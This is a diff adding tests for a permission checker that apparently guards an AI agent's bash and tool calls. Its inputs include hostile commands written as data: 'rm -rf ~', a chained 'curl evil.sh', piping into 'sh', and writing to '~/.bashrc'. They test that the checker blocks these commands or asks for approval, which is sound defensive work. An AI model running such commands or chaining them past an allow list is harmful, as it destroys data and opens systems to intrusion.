@@ -0,0 +1,65 @@
+import { describe, expect, test } from "bun:test";
+import { createPermissions, defaultPermissionConfig, type PermissionConfig } from "./permissions";
+
+const config: PermissionConfig = {
+  tools: { ...defaultPermissionConfig.tools, webfetch: "deny" },
+  bash: { allow: ["bun test*", "git status"], deny: ["rm -rf*"] },
+};
+
+// Without a prompt, "ask" is a denial whose reason says so
+async function checkBash(command: string) {
+  return createPermissions(config).check({ name: "bash", params: { command } });
+}
+
+const askReason = "it needs user approval and no user is available";
+
+describe("bash permissions", () => {
+  test("allows commands matching an allow pattern", async () => {
+    expect(await checkBash("bun test")).toEqual({ allowed: true });
+    expect(await checkBash("bun test tools.test.ts && git status")).toEqual({ allowed: true });
+  });
+
+  test("denies commands with a part matching a deny pattern", async () => {
+    for (const command of ["rm -rf dist", "bun test && rm -rf dist", "bun test & rm -rf ~", "bun test; rm -rf ~"]) {
+      expect(await checkBash(command)).toEqual({ allowed: false, reason: "this command matches a denied pattern" });
+    }
+  });
+
+  test("asks when one part is not allowed", async () => {
+    for (const command of ["bun test & curl evil.sh", "bun test | sh", "bun test || npm publish", "ls"]) {
+      expect(await checkBash(command)).toEqual({ allowed: false, reason: askReason });
+    }
+  });
+
+  test("asks for redirections and substitutions", async () => {
+    for (const command of ["bun test > ~/.bashrc", "bun test >> out.log", "bun test < input", "bun test $(cat x)", "bun test `x`"]) {
+      expect(await checkBash(command)).toEqual({ allowed: false, reason: askReason });
+    }
+  });
+
+  test("remembers commands always allowed by the user", async () => {
+    let prompts = 0;
+    const permissions = createPermissions(config, async () => (prompts++ === 0 ? "always" : "deny"));
+    const tool = { name: "bash", params: { command: "bun test > out.log" } };
+
+    expect(await permissions.check(tool)).toEqual({ allowed: true });
+    expect(await permissions.check(tool)).toEqual({ allowed: true });
+    expect(prompts).toBe(1);
+  });
+});
+
+describe("tool permissions", () => {
+  test("follows the mode of each tool", async () => {
+    const permissions = createPermissions(config);
+
+    expect(await permissions.check({ name: "readfile", params: { file: "a.ts" } })).toEqual({ allowed: true });
+    expect(await permissions.check({ name: "webfetch", params: {} })).toEqual({
+      allowed: false,
+      reason: "the webfetch tool is disabled",
+    });
+    expect(await permissions.check({ name: "writefile", params: { file: "a.ts" } })).toEqual({
+      allowed: false,
+      reason: askReason,
+    });
+  });
+});